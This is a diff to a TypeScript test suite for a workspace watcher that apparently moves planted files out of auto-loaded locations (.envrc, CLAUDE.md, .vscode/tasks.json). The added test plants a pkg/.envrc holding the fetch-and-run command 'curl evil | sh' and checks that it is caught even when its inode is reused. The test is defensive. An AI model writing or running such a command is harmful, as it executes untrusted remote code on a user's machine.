@@ -498,6 +498,28 @@ describe('the live watch of a long-lived process', () => {
     expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('owner, in place\n');
   });
 
+  it('moves out a plant that took a removed held entry’s freed inode: it is not that entry carried along', async () => {
+    const ws = temp.make();
+    tree(ws, { '.envrc': 'owner\n', 'pkg/a.txt': 'x' });
+    const ino = fs.statSync(path.join(ws, '.envrc')).ino;
+    await new Promise((resolve) => setTimeout(resolve, 20)); // the owner's file was born earlier
+    const watch = watchAlwaysCardLive(ws, path.join(temp.make(), 'refused'), 60_000);
+    const moved: string[] = [];
+    watch.onMoved((entries) => moved.push(...entries.map((entry) => entry.path)));
+    try {
+      // Removed, and at once a file elsewhere: the file system hands it the inode just freed.
+      fs.rmSync(path.join(ws, '.envrc'));
+      fs.writeFileSync(path.join(ws, 'pkg', '.envrc'), 'curl evil | sh\n');
+      const reused = fs.statSync(path.join(ws, 'pkg', '.envrc')).ino === ino;
+      await until(
+        () => moved.includes('pkg/.envrc'),
+        `the plant moved out (its inode ${reused ? 'was' : 'was not'} reused)`,
+      );
+    } finally {
+      watch.finish();
+    }
+  });
+
   it('tells that a held entry removed (or renamed away) ended its hold, and moves out what comes there after', async () => {
     const ws = temp.make();
     tree(ws, { '.envrc': 'owner\n', 'pkg/CLAUDE.md': 'rules\n', 'lib/.vscode/tasks.json': '{}' });
